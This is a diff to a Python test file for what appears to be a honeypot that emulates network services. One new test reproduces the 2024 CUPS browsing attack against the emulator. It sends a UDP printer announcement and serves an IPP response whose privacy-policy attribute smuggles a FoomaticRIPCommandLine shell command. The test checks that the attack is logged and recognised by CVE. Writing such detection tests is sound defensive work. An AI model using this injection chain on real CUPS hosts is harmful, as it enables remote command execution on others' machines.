@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
+import socket
 from pathlib import Path
 from typing import Any
 
@@ -10,6 +12,7 @@ import pytest
 
 from end_to_end.test_device_clients import said
 from eudaemon.payload.fetch.policy import FetchSettings
+from eudaemon.protocols.ipp import message as ipp
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
 from payload.servers import saying, serving, tool
@@ -100,3 +103,40 @@ async def test_snmp_with_its_own_tools(tmp_path: Path) -> None:
     for closed in facts(tmp_path, "session.closed"):
         assert closed.bytes_out <= closed.bytes_in
     assert "id -u" in {fact.line for fact in facts(tmp_path / "tcp", "command.entered")}
+
+
+async def test_a_printer_as_cups_has_it(tmp_path: Path) -> None:
+    ipptool, lp = tool("ipptool", "cups-ipp-utils"), tool("lp", "cups-client")
+    document = tmp_path / "document"
+    document.write_bytes(b"%!PS\n" + bytes(range(256)) * 40)
+    async with running(tmp_path, "ipp") as net:
+        where = f"127.0.0.1:{net.port}"
+        uri = f"ipp://{where}/printers/x"
+        assert b"[FAIL]" not in await said(ipptool, "-tv", uri, "get-printer-attributes.test")
+        assert b"[FAIL]" not in await said(ipptool, "-tf", str(document), uri, "print-job.test")
+        await said(lp, "-h", where, "-t", "invoice", str(document))
+    kept = [(fact.name, fact.size) for fact in facts(tmp_path, "artefact.kept")]
+    assert ("invoice", document.stat().st_size) in kept
+    assert len(kept) == 2
+    assert "Get-Printer-Attributes" in " ".join(fact.line for fact in facts(tmp_path, "command.entered"))
+
+
+async def test_a_printer_that_is_announced(tmp_path: Path) -> None:
+    """The attack of September 2024: a datagram, a printer that asks to be asked, and a command in what it says."""
+    heard: list[bytes] = []
+
+    async def printer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        heard.append(await reader.readuntil(b"\r\n\r\n"))
+        heard.append(await reader.readexactly(int(heard[0].split(b"Content-Length: ")[1].split(b"\r\n")[0])))
+        value = b'https://a/"\n*FoomaticRIPCommandLine: "echo 1 > /tmp/pwned"\n*cupsFilter2 : "a b 0 foomatic-rip'
+        body = b"\2\0\0\0\0\0\0\1\4\x45\0\x1aprinter-privacy-policy-uri" + len(value).to_bytes(2, "big") + value + b"\3"
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
+
+    async with serving(printer) as port, running(tmp_path, "ipp", transport="udp", fetch=LAB) as net:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+            client.sendto(b'0 3 http://127.0.0.1:%d/printers/evil "Office" "HP"' % port, ("127.0.0.1", net.port))
+            await net.until("command.entered")
+    assert heard[0].startswith(b"POST /printers/evil HTTP/1.1\r\n")
+    assert ipp.read(heard[1]).operation == 0x000B
+    assert [fact.line for fact in facts(tmp_path, "command.entered")] == ["echo 1 > /tmp/pwned"]
+    assert {fact.reference for fact in facts(tmp_path, "exploit.recognised")} == {"CVE-2024-47176", "CVE-2024-47177"}
